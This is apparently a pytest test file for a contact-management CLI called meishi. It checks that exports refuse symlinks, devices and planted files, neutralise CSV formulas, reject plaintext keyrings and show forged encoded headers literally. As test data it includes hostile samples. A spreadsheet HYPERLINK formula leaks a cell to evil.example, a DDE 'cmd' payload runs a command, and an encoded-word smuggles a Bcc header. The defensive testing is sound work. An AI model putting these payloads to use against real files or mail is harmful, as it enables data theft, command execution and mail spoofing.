"""Hostile output targets and hostile text in what meishi writes (issue 10, items 4, 5, 6, 8, 9).

Files: a link, device, pipe or folder planted where meishi writes is never followed or
replaced, meishi's own files are never written over, a failed write leaves nothing behind.
CSV cells never run as formulas; vCard and JSON stay exact. Keyrings that keep passwords
in a plain file are refused. Header text that looks RFC 2047-encoded is shown literally.
.eml names fit in FILE_NAME_BYTES and stay unique.
"""

from __future__ import annotations

import csv
import email.policy
import io
import json
import os
import resource
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from email.header import decode_header, make_header
from email.message import EmailMessage
from email.parser import BytesParser
from email.utils import parseaddr
from pathlib import Path

import keyring
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from keyring.backends import chainer, fail

from helpers import (
    MemoryKeyring,
    add_event,
    add_person,
    error_of,
    fails,
    home,
    json_of,
    new_home,
    ok,
    refused_in_child,
    set_me,
    snapshot,
)
from meishi.formats.csvfile import FORMULA_STARTS, formula_restored, formula_safe
from meishi.limits import FILE_NAME_BYTES, STALE_TEMP_SECONDS
from meishi.mail import message as mail

VICTIM_TEXT = "the victim's own file\n"


@pytest.fixture
def stored() -> None:
    """A store with one person in it, so that every export has something to write."""
    add_event("AI勉強会", -1)
    add_person("AI勉強会", "田中 太郎", "--email", "taro@example.jp", "--phone", "+81 3-1234-5678")


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A file that a planted link points at; it must never change."""
    path = tmp_path / "victim.txt"
    path.write_text(VICTIM_TEXT)
    return path


WRITERS = {
    "export csv": ("export", "--format", "csv", "--out"),
    "export json": ("export", "--format", "json", "--out"),
    "export vcard": ("export", "--out"),
    "backup": ("backup",),
}


# `backup` copies the SQLite file: its cases run in the SQLite pass only.
WRITER_CASES = [
    pytest.param(writer, marks=pytest.mark.sqlite_only) if writer == "backup" else writer
    for writer in WRITERS
]


def write_to(writer: str, target: Path) -> tuple[str, ...]:
    """The arguments that make `writer` write to target."""
    return (*WRITERS[writer], str(target))


def temporaries(folder: Path) -> list[str]:
    """The temporary files meishi could have left in a folder."""
    return [name for name in os.listdir(folder) if name.endswith(".partial")]


# --- 6. Where files are written -------------------------------------------------------------


@pytest.mark.usefixtures("stored")
@pytest.mark.parametrize("writer", WRITER_CASES)
def test_a_link_at_the_target_is_refused_and_its_victim_untouched(
    tmp_path: Path, victim: Path, writer: str
) -> None:
    link = tmp_path / "out"
    link.symlink_to(victim)
    before = snapshot()
    assert "symbolic link" in error_of(fails(*write_to(writer, link)))
    assert victim.read_text() == VICTIM_TEXT
    assert link.is_symlink()
    assert snapshot() == before
    assert temporaries(tmp_path) == []


@pytest.mark.usefixtures("stored")
@pytest.mark.parametrize("writer", WRITER_CASES)
def test_a_link_at_the_old_temporary_name_is_not_followed(
    tmp_path: Path, victim: Path, writer: str
) -> None:
    out = tmp_path / "out"
    (tmp_path / "out.partial").symlink_to(victim)  # where meishi used to write first
    ok(*write_to(writer, out))
    assert victim.read_text() == VICTIM_TEXT
    assert stat.S_ISREG(out.lstat().st_mode)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


@pytest.mark.usefixtures("stored")
@pytest.mark.parametrize("writer", WRITER_CASES)
def test_planted_world_readable_files_are_replaced_not_reused(tmp_path: Path, writer: str) -> None:
    out = tmp_path / "out"
    planted = [out, tmp_path / "out.partial"]  # the target, and where meishi used to write
    for path in planted:
        path.write_text("planted\n")
        path.chmod(0o666)
    held = [path.open() for path in planted]  # what another user who planted them keeps open
    try:
        ok(*write_to(writer, out))
        assert [file.read() for file in held] == ["planted\n"] * 2  # neither got the export
    finally:
        for file in held:
            file.close()
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.read_bytes() != b"planted\n"


def own_files() -> dict[str, Path]:
    """meishi's own files, as a store in use has them."""
    return {
        "database": home() / "meishi.db",
        "write-ahead log": home() / "meishi.db-wal",
        "config": home() / "config.toml",
        "card image": home() / "cards" / "0123456789abcdef.png",
    }


@pytest.mark.usefixtures("stored")
@pytest.mark.parametrize("writer", WRITER_CASES)
@pytest.mark.parametrize("which", ["database", "write-ahead log", "config", "card image"])
def test_meishi_own_files_are_never_written_over(writer: str, which: str) -> None:
    set_me()  # a config.toml to protect
    target = own_files()[which]
    before = snapshot()
    assert "meishi's" in error_of(fails(*write_to(writer, target)))
    assert snapshot() == before
    assert not target.parent.exists() or temporaries(target.parent) == []


@pytest.mark.usefixtures("stored")
@pytest.mark.sqlite_only  # the SQLite file and its backups
def test_meishi_own_files_are_recognized_by_another_name(tmp_path: Path) -> None:
    alias = tmp_path / "alias"
    alias.symlink_to(home())  # the home reached through a linked folder
    hard = tmp_path / "hard.db"
    os.link(home() / "meishi.db", hard)  # the database under another name
    before = snapshot()
    for target in (alias / "meishi.db", alias / "config.toml", hard):
        assert "meishi's" in error_of(fails("export", "--format", "json", "--out", str(target)))
        assert "meishi's" in error_of(fails("backup", str(target)))
    assert snapshot() == before


@pytest.mark.usefixtures("stored")
@pytest.mark.parametrize("writer", WRITER_CASES)
def test_devices_pipes_and_folders_are_refused(tmp_path: Path, writer: str) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    folder = tmp_path / "folder"
    folder.mkdir()
    before = snapshot()
    device = character_device(tmp_path)
    targets = {device: "a device", pipe: "a pipe"}
    if writer != "export vcard":  # a folder there means one .vcf per contact
        targets[folder] = "a folder"
    if writer == "backup":  # a folder there means a named backup inside it
        del targets[folder]
    for target, kind in targets.items():
        assert kind in error_of(fails(*write_to(writer, target)))
    assert all(stat.S_ISCHR(path.lstat().st_mode) for path in (device, Path("/dev/null")))
    assert stat.S_ISFIFO(pipe.lstat().st_mode)
    assert os.listdir(folder) == []
    assert snapshot() == before


def character_device(tmp_path: Path) -> Path:
    """A character device to aim at: /dev/null, or, for root (whom a meishi that wrote
    over devices would let replace /dev/null), a null device of the test's own."""
    if os.geteuid() != 0:
        return Path("/dev/null")
    device = tmp_path / "null"
    os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    return device


def test_a_write_that_fails_midway_leaves_no_temporary_file(tmp_path: Path) -> None:
    add_event("AI勉強会", -1)
    note = "メモ" * 2_000
    cards = "".join(
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Person {n}\r\nEMAIL:p{n}@example.jp\r\n"
        f"NOTE:{note}\r\nEND:VCARD\r\n"
        for n in range(40)
    )
    (tmp_path / "many.vcf").write_text(cards, encoding="utf-8")
    ok("import", str(tmp_path / "many.vcf"))
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    before = snapshot()

    def small_files() -> None:
        """Let the child write no file larger than 128 KiB; a larger write fails (EFBIG)."""
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (128 * 1024, 128 * 1024))

    out = out_dir / "all.json"
    done = subprocess.run(
        [sys.executable, "-m", "meishi", "export", "--format", "json", "--out", str(out)],
        capture_output=True,
        preexec_fn=small_files,
        timeout=60,
    )
    stderr = done.stderr.decode()
    assert done.returncode == 1, stderr
    assert stderr.startswith(f"meishi: cannot write {out}") and len(stderr.splitlines()) == 1
    assert os.listdir(out_dir) == []
    assert snapshot() == before


@pytest.mark.usefixtures("stored")
def test_stale_temporary_files_of_killed_runs_are_removed(tmp_path: Path) -> None:
    old = time.time() - STALE_TEMP_SECONDS - 60
    stale = tmp_path / ".out.csv.0123456789abcdef.partial"
    fresh = tmp_path / ".out.csv.fedcba9876543210.partial"  # another run, writing now
    users = tmp_path / ".notes.partial"  # not meishi's pattern: the user's own
    for path in (stale, fresh, users):
        path.write_text("x")
    for path in (stale, users):
        os.utime(path, (old, old))
    ok("export", "--format", "csv", "--out", str(tmp_path / "out.csv"))
    assert not stale.exists()
    assert fresh.exists() and users.exists()


@pytest.mark.sqlite_only  # the SQLite file and its backups
def test_an_unwritable_backup_place_is_one_line_and_exit_1(tmp_path: Path) -> None:
    add_event("AI勉強会", -1)
    message = error_of(fails("backup", str(tmp_path / "missing" / "x.db"), code=1))
    assert message.startswith("cannot write") and "No such file" in message


@pytest.mark.sqlite_only  # the SQLite file and its backups
def test_a_backup_is_one_self_contained_file(tmp_path: Path) -> None:
    add_event("AI勉強会", -1)
    out = tmp_path / "copy.db"
    ok("backup", str(out))
    assert out.read_bytes()[18:20] == b"\x01\x01"  # a rollback-journal database, not WAL


# --- 8. .eml file names -------------------------------------------------------------------

LONG_NAME = (
    "寿限無寿限無五劫の擦り切れ海砂利水魚の水行末雲来末風来末食う寝る処に住む処"
    "やぶら小路の藪柑子パイポパイポパイポのシューリンガンのグーリンダイ"
    "のポンポコピーのポンポコナーの長久命の長助"
)


def met_three() -> None:
    """Three people met yesterday: two with the same 75-character name, one other."""
    set_me()
    add_event("勉強会", -1)
    name = LONG_NAME[:75]
    assert len(name) == 75
    add_person("勉強会", name, "--email", "one@example.jp")
    add_person("勉強会", name, "--email", "two@example.jp")
    add_person("勉強会", "佐藤 一郎", "--email", "sato@example.jp")


def test_long_japanese_names_get_unique_files_cut_between_characters(tmp_path: Path) -> None:
    met_three()
    out = tmp_path / "drafts"
    drafts = json_of(ok("thank", "--json", "--out", str(out)))["drafts"]
    names = os.listdir(os.fsencode(out))
    assert len(names) == 3 == len({d["file"] for d in drafts})
    for name in names:
        assert len(name) <= FILE_NAME_BYTES
        assert name.decode("utf-8").endswith(".eml")  # strict: no character cut in two
    for draft in drafts:
        message = read_eml(Path(draft["file"]))
        assert message["To"].addresses[0].addr_spec == draft["to"]


def test_one_file_that_cannot_be_written_does_not_stop_the_others(
    tmp_path: Path, victim: Path
) -> None:
    met_three()
    first = json_of(ok("thank", "--json", "--out", str(tmp_path / "first")))["drafts"]
    out = tmp_path / "second"
    out.mkdir()
    blocked = out / Path(first[0]["file"]).name
    blocked.symlink_to(victim)
    message = error_of(fails("thank", "--out", str(out)))
    assert "symbolic link" in message and "the other 2 were written" in message
    assert victim.read_text() == VICTIM_TEXT
    written = {name for name in os.listdir(out) if not (out / name).is_symlink()}
    assert written == {Path(d["file"]).name for d in first[1:]}


def read_eml(path: Path) -> EmailMessage:
    """An .eml file parsed as a mail client would."""
    return read_eml_bytes(path.read_bytes())


def read_eml_bytes(raw: bytes) -> EmailMessage:
    """A message parsed as a mail client would."""
    message = BytesParser(policy=email.policy.default).parsebytes(raw)
    assert isinstance(message, EmailMessage)
    return message


# --- 4. CSV formula injection --------------------------------------------------------------

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "company": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "＝1+1",
    "phone": "+81 3-1234-5678",
    "department": "-2+3; \"quoted\", 'single'",
}


def add_hostile() -> None:
    """A contact whose every text field would run as a spreadsheet formula."""
    add_event("AI勉強会", -1)
    options = [f"--{field}={value}" for field, value in HOSTILE.items() if field != "name"]
    add_person("AI勉強会", HOSTILE["name"], "--email", "evil@example.com", *options)


def test_csv_cells_that_would_run_as_formulas_are_neutralized_and_reimport_exactly(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_hostile()
    out = tmp_path / "out.csv"
    ok("export", "--format", "csv", "--out", str(out))
    text = out.read_text(encoding="utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    for field, value in HOSTILE.items():
        assert row[field] == "'" + value  # a spreadsheet shows it as text
    assert row["email"] == "evil@example.com"  # nothing else is touched
    assert all(line.startswith('"') for line in text.splitlines())  # every cell quoted

    new_home(tmp_path / "elsewhere")
    ok("import", str(out))
    [card] = json_of(ok("contacts", "list", "--json"))
    assert card["name"] == HOSTILE["name"]
    shown = ok("contacts", "show", card["name"]).stdout
    for value in HOSTILE.values():
        assert value in shown


def test_vcard_and_json_exports_keep_hostile_text_exact(tmp_path: Path) -> None:
    import vobject

    add_hostile()
    vcard = vobject.readOne(ok("export").stdout)
    assert vcard.fn.value == HOSTILE["name"]
    assert vcard.org.value[0] == HOSTILE["company"]
    assert vcard.tel.value == HOSTILE["phone"]
    assert vcard.org.value[1] == HOSTILE["department"]
    dump = json.loads(ok("export", "--format", "json").stdout)
    assert json.dumps(HOSTILE["name"], ensure_ascii=False) in json.dumps(dump, ensure_ascii=False)


@given(st.text())
def test_formula_neutralizing_round_trips_and_never_leaves_a_formula(cell: str) -> None:
    safe = formula_safe(cell)
    assert formula_restored(safe) == cell
    assert not safe[:1] or safe[0] not in FORMULA_STARTS


# --- 5. The keyring -------------------------------------------------------------------------


@pytest.fixture
def keyring_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Where a file keyring would write, and SMTP settings that need a password."""
    data = tmp_path / "xdg-data"
    monkeypatch.setenv("XDG_DATA_HOME", str(data))
    ok("config", "set", "smtp.host", "smtp.example.com")
    ok("config", "set", "smtp.user", "me@example.com")
    previous = keyring.get_keyring()
    yield data
    keyring.set_keyring(previous)


@pytest.mark.parametrize(
    "backend",
    [
        "keyrings.alt.file.PlaintextKeyring",
        "keyrings.alt.file.EncryptedKeyring",
        "keyring.backends.null.Keyring",
        "keyring.backends.fail.Keyring",
    ],
)
def test_keyrings_that_keep_passwords_in_plain_files_or_nowhere_are_refused(
    keyring_files: Path, monkeypatch: pytest.MonkeyPatch, backend: str
) -> None:
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", backend)
    message = refused_in_child("config", "set-password", "smtp", code=1, input="s3cret-pw\n")
    assert backend.rpartition(".")[0] in message and "Secret Service" in message
    assert not keyring_files.exists()


def test_a_chain_of_weak_keyrings_is_refused(keyring_files: Path) -> None:
    from keyrings.alt.file import PlaintextKeyring

    class WeakChain(chainer.ChainerBackend):
        """A chain whose every keyring is one meishi refuses."""

        backends = (PlaintextKeyring(), fail.Keyring())
        priority = 10

    keyring.set_keyring(WeakChain())
    message = error_of(fails("config", "set-password", "smtp", input="s3cret-pw\n", code=1))
    assert "Secret Service" in message
    assert not keyring_files.exists()


def test_a_recommended_keyring_keeps_the_password_and_is_named(keyring_files: Path) -> None:
    from keyrings.alt.file import PlaintextKeyring

    memory = MemoryKeyring()

    class Chain(chainer.ChainerBackend):
        """A chain with a recommended keyring and a plaintext one behind it."""

        backends = (PlaintextKeyring(), memory)
        priority = 10

    keyring.set_keyring(Chain())
    said = ok("config", "set-password", "smtp", input="s3cret-pw\n").stdout
    assert said.strip().endswith(f"in the keyring ({memory.name}).")
    assert list(memory.passwords.values()) == ["s3cret-pw"]
    assert not keyring_files.exists()


# --- 9. Header text that looks encoded ------------------------------------------------------

FORGED = "=?utf-8?b?DQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?="  # decodes to CRLF "Bcc: victim@..."


def test_names_that_look_encoded_are_shown_literally_in_eml_files(tmp_path: Path) -> None:
    set_me(name=f"Boss {FORGED}")
    add_event(f"Meetup {FORGED}", -1)
    add_person(f"Meetup {FORGED}", FORGED, "--email", "taro@example.jp")
    add_person(f"Meetup {FORGED}", f"田中 {FORGED}", "--email", "tanaka@example.jp")
    out = tmp_path / "drafts"
    ok("thank", "--out", str(out))
    files = sorted(out.iterdir())
    assert len(files) == 2
    for path in files:
        raw = path.read_bytes()
        assert b"\r\nBcc:" not in raw.split(b"\r\n\r\n")[0]
        assert display_name(raw, "To") in (FORGED, f"田中 {FORGED}")
        assert display_name(raw, "From") == f"Boss {FORGED}"
        subject = str(read_eml(path)["Subject"])
        assert FORGED in subject and "\r" not in subject and "\n" not in subject


def display_name(raw: bytes, field: str) -> str:
    """A header's display name decoded by the book (RFC 2047), as mail readers show it.

    Python 3.11's own parser adds spaces between encoded-words in a name; readers do not.
    """
    head = raw.split(b"\r\n\r\n", 1)[0].replace(b"\r\n ", b" ").decode("ascii")
    [value] = [line[len(field) + 2 :] for line in head.split("\r\n") if line.startswith(field)]
    words, _, _ = value.rpartition(" <")
    if "=?" in words:
        return str(make_header(decode_header(words)))
    return parseaddr(value)[0]


# Printable text without line breaks or control characters (what check_header_value lets
# by), and without spaces at either end (names are stripped when they are typed).
HEADER_TEXT = st.text(
    st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp"), blacklist_characters="\x85"),
    max_size=120,
).filter(lambda text: text == text.strip())


@given(name=HEADER_TEXT, subject=HEADER_TEXT)
@example(name=FORGED, subject=f"「{FORGED}」のお礼")
@example(name=f"=?utf-8?q?=0D=0A?= {FORGED}", subject="=?")
def test_any_header_text_reads_back_exactly(name: str, subject: str) -> None:
    message = mail.build_message(
        to_name=name,
        to_addr="taro@example.jp",
        from_name=name,
        from_addr="hanako@example.com",
        subject=subject,
        body="本文\n",
        when=datetime(2024, 11, 29, tzinfo=UTC),
        message_id_domain="example.com",
        draft=True,
        owner="test",
    )
    raw = mail.message_bytes(message)
    assert display_name(raw, "To") == name == display_name(raw, "From")
    assert str(read_eml_bytes(raw)["Subject"]) == subject
